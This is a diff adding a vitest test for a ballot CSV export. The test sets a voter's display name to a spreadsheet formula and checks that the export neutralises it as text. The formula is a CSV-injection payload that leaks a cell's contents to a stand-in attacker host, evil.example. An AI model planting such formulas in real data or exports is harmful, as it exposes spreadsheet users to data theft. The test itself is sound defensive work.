@@ -1,6 +1,6 @@
 import { and, eq } from "drizzle-orm";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
-import { auditEntries, ballotElectorate, benefitPlans, projects } from "@/db/schema";
+import { accounts, auditEntries, ballotElectorate, benefitPlans, projects } from "@/db/schema";
 import { flushVoteNotices } from "../../services/vote-notices";
 import { ballotProject, ballotSettings, insertAccounts, tiltedShares } from "../../testing/ballots";
 import { callerFor, createTestAccount, createTestServices, describeEvent, observeCommitsAndPublishes, type TestAccount, type TestServices } from "../../testing/fixtures";
@@ -199,6 +199,26 @@ describe(`ballots router: opening, voting, closing (${process.env.DATABASE_URL ?
     const csv = await callerFor(services.deps, null).ballots.exportCsv({ ballotId: opened.id });
     expect(csv.match(/^vote,/gm)).toHaveLength(2);
     expect(csv).toContain(`,${voter.account.id},${voter.account.displayName},approve,`);
+  });
+
+  it("[EXPORT] a voter named like a spreadsheet formula is written as text", async () => {
+    const setup = await ballotProject(services.deps, { members: [1, 1] });
+    const opened = await as(setup.members[0]![0]!).ballots.open(ballotSettings(setup.projectId, { visibility: "roll_call", rule: "simple_majority" }));
+    const voter = setup.members[1]![0]!;
+    // Written straight to the table: names stored before names were cleaned at the door.
+    const formula = '=HYPERLINK("http://evil.example/?"&A1,"open")';
+    await services.deps.db.update(accounts).set({ displayName: formula }).where(eq(accounts.id, voter.account.id));
+    await as(voter).ballots.castVote({ ballotId: opened.id, choices: setup.planIds.map((planId) => ({ planId, choice: "approve" as const })) });
+    await as(admin).ballots.close({ ballotId: opened.id });
+
+    const csv = await callerFor(services.deps, null).ballots.exportCsv({ ballotId: opened.id });
+    const votes = csv.split("\r\n").filter((line) => line.startsWith("vote,"));
+    expect(votes).toHaveLength(2);
+    for (const line of votes) {
+      expect(line).toContain(`,${voter.account.id},"'=HYPERLINK(""http://evil.example/?""&A1,""open"")",approve,`);
+      // No cell of the line starts a formula once its quotes are read.
+      expect(line).not.toMatch(/(^|,)"?[=+\-@]/);
+    }
   });
 
   it("[LIVE] watchers are told the new turnout within a second of a vote, after it committed", async () => {
